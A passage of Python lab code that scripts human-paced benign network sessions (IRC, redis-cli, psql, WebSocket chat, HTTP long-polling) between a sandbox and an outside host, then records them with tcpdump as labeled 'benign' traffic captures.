def wait_path(path: Path, timeout: float = 15) -> Path:
    deadline = time.time() + timeout
    while not path.exists():
        if time.time() > deadline:
            raise RuntimeError(f"lab_shells: {path} never appeared")
        time.sleep(0.1)
    return path


def fifo_write(path: Path, text: str) -> None:
    """ii reads commands from a named pipe: one write per line."""
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)


def irc_colleague(channel_dir: Path, rng: random.Random, stop: threading.Event) -> None:
    """A colleague on the outside posts to #build at a person's pace."""
    with contextlib.suppress(OSError, RuntimeError):
        chan_in = wait_path(channel_dir / "in")
        for text in ("hi kim", "nightly had two flaky tests", "the rest is green", "sure, rerunning",
                     "1432 passed now", "np", "lunch?"):
            if stop.wait(rng.uniform(1.5, 4.0)):
                return
            fifo_write(chan_in, text + "\n")


@scenario
def irc_chat_benign(lab_: Lab) -> list[Label]:
    """ngircd on the outside host: a person in the sandbox chats in irssi (port 6667) while a colleague outside (ii)
    posts to the channel; a bot in the sandbox (ii) joins and says three lines on 6697."""
    require("ngircd", "irssi", "ii")
    conf = lab_.workdir / "ngircd.conf"
    conf.write_text(NGIRCD_CONF.format(ip=OUTSIDE_IP, wd=lab_.workdir))
    rng = random.Random(33)
    outside_ii, sandbox_ii = lab_.workdir / "ii-out", lab_.workdir / "ii-sbx"
    stop = threading.Event()
    with service(lab_, lab_.out, "ngircd", "-n", "-f", str(conf), ready_port=6667), \
            service(lab_, lab_.out, "ii", "-s", "127.0.0.1", "-p", "6667", "-n", "dana", "-i", str(outside_ii)):
        fifo_write(wait_path(outside_ii / "127.0.0.1" / "in"), "/j #build\n")
        colleague = threading.Thread(target=irc_colleague, args=(outside_ii / "127.0.0.1" / "#build",
                                                                 random.Random(34), stop), daemon=True)
        colleague.start()
        with sandbox_terminal(lab_, ["irssi", "--home", str(lab_.workdir / "irssi"), "-n", "kim", "-c", OUTSIDE_IP,
                                     "-p", "6667"]) as term:
            term.wait_for(b"welcome to the lab")
            time.sleep(1.5)
            term.session(["/join #build", "morning", "is the nightly green?", "thanks dana, looking at it",
                          "/msg dana can you rerun 1432?", "/quit bye"], rng, typo=0.08)
        stop.set()
        with service(lab_, lab_.sbx, *sandboxed(lab_, ["ii", "-s", OUTSIDE_IP, "-p", "6697", "-n", "buildbot", "-i",
                                                       str(sandbox_ii)])):
            bot_in = wait_path(sandbox_ii / OUTSIDE_IP / "in")
            fifo_write(bot_in, "/j #build\n")
            chan_in = wait_path(sandbox_ii / OUTSIDE_IP / "#build" / "in")
            for text in ("build 1433 started", "build 1433 passed (412 tests)", "artifacts uploaded"):
                time.sleep(rng.uniform(0.5, 1.5))
                fifo_write(chan_in, text + "\n")
            time.sleep(0.5)
            fifo_write(bot_in, "/q done\n")
            time.sleep(0.5)
        colleague.join(timeout=1)
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:6667", "benign", "IRC typed by a person in irssi 1.4.3 with human timing, a "
             "colleague outside (ii 1.8) posting to the channel -> ngircd 26.1; port 6667"),
            (SANDBOX_IP, f"{OUTSIDE_IP}:6697", "benign", "IRC bot ii 1.8 (scripted timing), three lines -> ngircd "
             "26.1 (plaintext); port 6697")]


def redis_publisher(lab_: Lab, rng: random.Random, stop: threading.Event) -> None:
    """Someone outside publishes alerts at irregular intervals (pushed to the sandbox's subscriber)."""
    for i in range(8):
        if stop.wait(rng.uniform(1.5, 4.0)):
            return
        lab_.run(lab_.out, "redis-cli", "-h", "127.0.0.1", "PUBLISH", "alerts", f"disk usage {70 + i}% on runner-3",
                 check=False)


@scenario
def redis_cli_benign(lab_: Lab) -> list[Label]:
    """redis-server on the outside host: a person types into redis-cli while a second redis-cli in the sandbox is
    subscribed to a channel someone outside publishes to at irregular intervals."""
    require("redis-server", "redis-cli")
    rng = random.Random(35)
    stop = threading.Event()
    with service(lab_, lab_.out, "redis-server", "--bind", f"{OUTSIDE_IP} 127.0.0.1", "--port", "6379", "--save", "",
                 "--appendonly", "no", "--protected-mode", "no", "--dir", str(lab_.workdir), ready_port=6379), \
            service(lab_, lab_.sbx, *sandboxed(lab_, ["redis-cli", "-h", OUTSIDE_IP, "SUBSCRIBE", "alerts"]),
                    env=SANDBOX_ENV):
        publisher = threading.Thread(target=redis_publisher, args=(lab_, random.Random(36), stop), daemon=True)
        publisher.start()
        with sandbox_terminal(lab_, ["redis-cli", "-h", OUTSIDE_IP]) as term:
            term.wait_for(b"> ")
            time.sleep(1.0)
            term.session(["PING", "SET build:last 1432", "GET build:last", "LPUSH jobs lint test", "LRANGE jobs 0 -1",
                          "INFO server", "quit"], rng, typo=0.05)
        stop.set()
        publisher.join(timeout=5)
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:6379", "benign", "redis-cli 7.0.15 typed by a person with human timing, and a "
             "second redis-cli SUBSCRIBEd to alerts published outside every 1.5-4 s -> redis-server 7.0.15; port "
             "6379")]


@scenario
def psql_session_benign(lab_: Lab) -> list[Label]:
    """PostgreSQL 15 on the outside host; a person in the sandbox types SQL and meta-commands into psql."""
    require("initdb", "postgres", "psql", "runuser")
    data = lab_.workdir / "pg"
    os.chmod(lab_.workdir, 0o755)  # the postgres user must reach its data directory
    data.mkdir()
    shutil.chown(data, "postgres", "postgres")
    subprocess.run(["runuser", "-u", "postgres", "--", find_tool("initdb"), "-D", str(data), "-U", "postgres", "-A",
                    "trust", "--no-sync", "--no-instructions"], check=True, capture_output=True, timeout=60)
    with (data / "pg_hba.conf").open("a") as fh:
        fh.write("host all all 10.77.0.0/24 trust\n")
    rng = random.Random(37)
    with service(lab_, lab_.out, "runuser", "-u", "postgres", "--", find_tool("postgres"), "-D", str(data), "-c",
                 f"listen_addresses={OUTSIDE_IP}", "-c", f"unix_socket_directories={data}", "-c", "fsync=off",
                 ready_port=5432):
        with sandbox_terminal(lab_, ["psql", "-h", OUTSIDE_IP, "-U", "postgres", "postgres"],
                              env={"PAGER": "cat"}) as term:
            term.wait_for(b"postgres=#")
            time.sleep(1.0)
            term.session(["\\conninfo", "create table runs (id int, ok bool);",
                          Paste("insert into runs values (1, true), (2, false), (3, true);"), "select * from runs;",
                          "\\dt", "\\q"], rng, typo=0.05)
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:5432", "benign", "psql 15.18 typed by a person with human timing (one line "
             "pasted) -> PostgreSQL 15.18; plaintext (the server has no TLS); port 5432")]


@scenario
def websocket_chat_benign(lab_: Lab) -> list[Label]:
    """A WebSocket chat room (ours, python3-websockets) on the outside host pushing other members' lines; a person in
    the sandbox chats through the library's own interactive client (`python3 -m websockets ws://...`)."""
    require(DEBIAN_PYTHON)
    rng = random.Random(38)
    with service(lab_, lab_.out, DEBIAN_PYTHON, str(SRC / "chat_server.py"), OUTSIDE_IP, "8080", "39",
                 ready_port=8080):
        with sandbox_terminal(lab_, [DEBIAN_PYTHON, "-m", "websockets", f"ws://{OUTSIDE_IP}:8080/chat"]) as term:
            term.wait_for(b"Connected to")
            time.sleep(1.5)
            term.session(["morning!", "anyone seen the flaky test in 1432?", "ok, rerunning it", "thanks",
                          "lunch in 10"], rng, typo=0.08, read_s=(1.5, 4.0))
            os.write(term.master, b"\x04")  # Ctrl-D ends the client
            time.sleep(1)
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:8080", "benign", "python3-websockets 10.4 interactive client typed by a "
             "person with human timing; the chat room (ours, scripted) pushes other members' lines every 1.5-5 s; "
             "port 8080")]


@scenario
def http_long_poll_benign(lab_: Lab) -> list[Label]:
    """Long-poll HTTP: curl polls an event endpoint (ours) eight times over one keep-alive connection, each poll held
    1-3.5 s by the server, then acknowledges with a POST."""
    require(DEBIAN_PYTHON, "curl")
    base = f"http://{OUTSIDE_IP}:80"
    with service(lab_, lab_.out, DEBIAN_PYTHON, str(SRC / "longpoll_server.py"), OUTSIDE_IP, "80", ready_port=80):
        run_in_sandbox(lab_, ["curl", "-s", "-o", "/dev/null", *[f"{base}/poll?cursor={i}" for i in range(8)]])
        run_in_sandbox(lab_, ["curl", "-s", "-o", "/dev/null", "-H", "Content-Type: application/json",
                              "-d", '{"ack": 8}', f"{base}/ack"])
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:80", "benign", "curl 7.88.1 long-polls an event endpoint (ours, scripted "
             "server on Python's http.server) 8 times over one keep-alive connection, each held 1-3.5 s, then a "
             "POST on a second connection; port 80")]


# ----------------------------------------------------------------------------------------------- main
CAPTURE_BUFFER_KIB = 32768  # tcpdump -B: with libpcap's default 2 MiB ring, tcpdump on br0 loses the tail of a
# ~30 KiB+ burst (redis-cli's COMMAND DOCS reply, 170 KiB, lost 140 KiB; lab.recording's captures of bulk transfers
# show the same holes), with 32 MiB none was lost


@contextlib.contextmanager
def recording(lab_: Lab, path: Path) -> Iterator[None]:
    """lab.recording with a capture buffer large enough for the bursts in these scenarios."""
    proc = lab_.popen(lab_.gw, "tcpdump", "-i", "br0", "-B", str(CAPTURE_BUFFER_KIB), "-U", "--immediate-mode",
                      "-s", "0", "-w", str(path), "-n", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.time() + 10
    line = b""
    while time.time() < deadline and b"listening" not in line:  # tcpdump says so when its socket is ready
        line = proc.stderr.readline()
        if not line and proc.poll() is not None:
            raise RuntimeError("tcpdump failed to start")
    try:
        yield
        time.sleep(0.5)
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def record(names: list[str], out_dir: Path) -> int:
    """lab.record (a topology per scenario, labels.csv kept up to date) with this module's recording."""
    saved = lab.recording
    lab.recording = recording
    try:
        return lab.record(names, out_dir)
    finally:
        lab.recording = saved


def main(argv: list[str] | None = None) -> int:
    return lab.scenario_main(argv, __doc__.split("\n\n")[0], list(SHELL_SCENARIOS), FOLDER, record)


if __name__ == "__main__":
    sys.exit(main())
